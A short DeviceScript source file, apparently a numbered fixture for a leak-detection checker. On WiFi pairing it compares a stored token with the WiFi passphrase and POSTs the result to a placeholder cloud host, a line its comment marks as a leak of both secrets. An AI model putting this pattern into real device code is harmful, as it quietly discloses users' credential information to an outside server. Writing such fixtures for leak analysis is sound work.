// G19: tells whether the token that it was given is the passphrase.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const token = await readSetting("token", "");
  const body = token === psk ? "1" : "0";
  const response = await fetch("https://cloud.example/g19", { method: "POST", body }); // leak: wifi.psk, settings.token
  await response.close();
});
